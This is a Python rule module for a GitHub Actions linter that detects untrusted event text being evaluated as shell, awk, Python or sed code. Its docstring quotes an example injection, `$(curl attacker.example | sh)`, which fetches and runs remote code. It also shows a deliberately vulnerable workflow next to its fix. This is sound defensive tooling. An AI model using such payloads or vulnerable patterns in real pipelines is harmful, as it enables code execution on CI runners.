"""Text of strangers becomes code of a program that a script starts.

## Why is this bad?
A variable keeps the text out of the script, but not out of what the script hands on as code: in `bash -c "echo $TITLE"`, `eval "$TITLE"`
or `ssh host "deploy $BRANCH"` another shell reads it once more, and a title like `$(curl attacker.example | sh)` is run. `awk` and
`python -c` run what stands in their program, and GNU `sed` runs what follows the letter `e`.

Reported is text that anybody can write, in runs that have powers. What `${{ }}` puts there is a matter of `template-injection`.

High: it is the code of a shell or of a language. Medium: it is part of a `sed` script, out of which it has to break first.

## Example
```yaml
on: issue_comment
permissions:
  contents: write
jobs:
  bench:
    runs-on: ubuntu-latest
    steps:
      - env:
          BODY: ${{ github.event.comment.body }}
        run: docker run -v "$PWD:/src" bench sh -c "./bench.sh $BODY"
```

Use instead:
```yaml
on: issue_comment
permissions:
  contents: write
jobs:
  bench:
    runs-on: ubuntu-latest
    steps:
      - env:
          BODY: ${{ github.event.comment.body }}
        run: docker run -v "$PWD:/src" bench sh -c './bench.sh "$1"' sh "$BODY"
```

What follows the code is an argument of it: `"$1"` in a shell, `sys.argv[1]` in Python, `-v name="$BODY"` of `awk`, `--arg` of `jq`.

## References
- [Script injections](https://docs.github.com/en/actions/concepts/security/script-injections)
- [The command `e` of GNU sed](https://www.gnu.org/software/sed/manual/sed.html#index-e-_0028evaluate_0029-command)
"""

from __future__ import annotations

from collections.abc import Iterator

from steplock.model import Step
from steplock.rule import Confidence, Context, Finding, Severity, rule
from steplock.taint import SEDS, Evaluated, analysis, evaluated
from steplock.trust import STRANGERS_ACTIONS

# In runs of `pull_request` a stranger has nothing to gain.
_EVENTS = (STRANGERS_ACTIONS.keys() - {"pull_request"}) | {"workflow_call"}


@rule(severity=Severity.HIGH, events=_EVENTS)
def check(step: Step, context: Context) -> Iterator[Finding]:
    if step.run is not None:
        for found in evaluated(analysis(step.file, context.repository), step):
            yield _finding(step, found, context)


def _finding(step: Step, found: Evaluated, context: Context) -> Finding:
    assert step.run is not None
    command, expansion, taint = found
    written = step.run.value[slice(*expansion.span)]
    short = written if len(written) <= 40 else f"{written[:37]}..."
    sed = command.name in SEDS
    does = "break out of it and have `sed` run commands" if sed else "run commands here"
    return Finding(
        step.document.locate(step.run, expansion.span),
        f"`{short}` ({taint.what}) becomes code of `{command.name}`: anybody can write it, and so {does}; "
        f"pass it as an argument",
        severity=Severity.MEDIUM if sed else None,
        confidence=Confidence.HIGH if taint.certain else Confidence.MEDIUM,
        related=context.way(taint.hops),
        scope=step.span,
    )
